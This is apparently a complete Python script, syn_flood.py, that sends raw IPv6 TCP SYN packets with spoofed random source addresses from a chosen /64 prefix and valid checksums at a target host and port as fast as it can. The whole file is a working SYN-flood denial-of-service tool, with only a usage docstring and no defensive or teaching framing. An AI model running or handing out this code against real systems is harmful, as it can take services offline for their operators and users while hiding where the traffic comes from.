"""Sends COUNT TCP SYNs to DST:PORT from random addresses of the /64 PREFIX (raw IPv6, valid checksums; the answers go nowhere), as fast as it can for at most SECONDS, and prints how many it sent. Usage: syn_flood.py PREFIX DST PORT COUNT SECONDS"""
import ipaddress, random, socket, struct, sys, time

prefix, dst, port, count, secs = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5])
net = int(ipaddress.IPv6Network(prefix).network_address)
da = socket.inet_pton(socket.AF_INET6, dst)
rnd = random.Random(6146)


def csum(b):
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent, deadline = 0, time.monotonic() + secs
while sent < count and time.monotonic() < deadline:
    sa = (net | rnd.getrandbits(64)).to_bytes(16, "big")
    tcp = struct.pack("!HHIIBBHHH", rnd.randint(1024, 65535), port, rnd.getrandbits(32), 0, 0x50, 0x02, 65535, 0, 0)
    c = csum(sa + da + struct.pack("!IxxxB", len(tcp), 6) + tcp)
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    hdr = struct.pack("!IHBB", 6 << 28, len(tcp), 6, 64) + sa + da
    try:
        s.sendto(hdr + tcp, (dst, 0))
    except OSError:
        pass
    sent += 1
print("sent", sent)
